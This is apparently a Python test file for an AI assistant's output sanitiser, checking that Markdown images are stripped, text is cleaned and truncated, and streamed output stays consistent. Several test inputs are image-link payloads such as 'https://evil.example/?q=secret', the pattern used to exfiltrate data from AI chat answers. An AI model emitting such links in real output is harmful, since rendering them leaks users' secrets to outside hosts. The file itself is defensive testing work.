import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.markup import clean_answer, without_images
from messaging.models import CONTENT_MAX_LENGTH

pytestmark = pytest.mark.once

#: What CommonMark may take for an image.
IMAGE = re.compile(r"!\[")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hello!", "Hello!"),
        ("See ![a cat](https://evil.example/?q=secret) there", "See a cat there"),
        ("![x](https://evil/?q=secret)", "x"),
        ('![x](https://evil/?q=(secret) "a title")', "x"),
        ("![x](<https://evil/?q=secret>)", "x"),
        ("![x][ref]\n\n[ref]: https://evil/", "x\n\n[ref]: https://evil/"),
        ("![x][]", "x"),
        ("![x]", "x"),
        ("![a ![b](https://evil/1) c](https://evil/2)", "a b c"),
        ("[![x](https://evil/1)](https://good/)", "[x](https://good/)"),
        ("!![x](https://evil/1)[y](https://evil/2)", "!x[y](https://evil/2)"),
        ("![hey!](https://evil/1)[y](https://evil/2)", "hey! [y](https://evil/2)"),
        ("!![](https://evil/1)[y](https://evil/2)", "! [y](https://evil/2)"),
        ("![never closed](https://evil", "never closed(https://evil"),
        ("![never closed", "[never closed"),
        (r"![a\]b](https://evil/)", r"a\]b"),
        ('<img src="https://evil/">', '<img src="https://evil/">'),
        ("[a link](https://good/)", "[a link](https://good/)"),
        ("Done![1]", "Done1"),
    ],
)
def test_of_an_image_the_words_stay(text: str, shown: str) -> None:
    assert without_images(text) == shown


def test_nothing_else_changes_but_what_no_message_can_hold() -> None:
    assert clean_answer("  1 < 2 & <b>bold</b>\x00 \ud800!  ") == "1 < 2 & <b>bold</b> ?!"
    assert clean_answer("\u200b \n") == ""
    assert clean_answer("Hi", opening="I am a program.\n\n") == "I am a program.\n\nHi"
    long = clean_answer("x" * 50_000)
    assert len(long) == CONTENT_MAX_LENGTH
    assert long.endswith("(cut off)")


MARKUP = st.text(st.sampled_from("![]()<>\\ab \n!["), max_size=60)


@settings(max_examples=2000, deadline=None)
@given(MARKUP)
def test_no_image_is_left(text: str) -> None:
    assert not IMAGE.search(without_images(text))


@settings(max_examples=1000, deadline=None)
@given(MARKUP, st.lists(st.integers(0, 60), max_size=6))
def test_what_was_shown_stays(text: str, edges: list[int]) -> None:
    whole = clean_answer(text)
    shown = ""
    for edge in [*sorted(edges), len(text)]:
        part = clean_answer(text[:edge], is_whole=False)
        assert part.startswith(shown)
        shown = part
    assert whole.startswith(shown)


@pytest.mark.parametrize("piece", ["![", "![a", "![x](", "!", "![](", "![" + "a" * 49, "\\![", "![]"])
def test_it_takes_no_time_whatever_is_written(piece: str) -> None:
    text = (piece * 30_000)[:20_000]
    for is_whole in (True, False):
        assert not IMAGE.search(without_images(text, is_whole=is_whole))
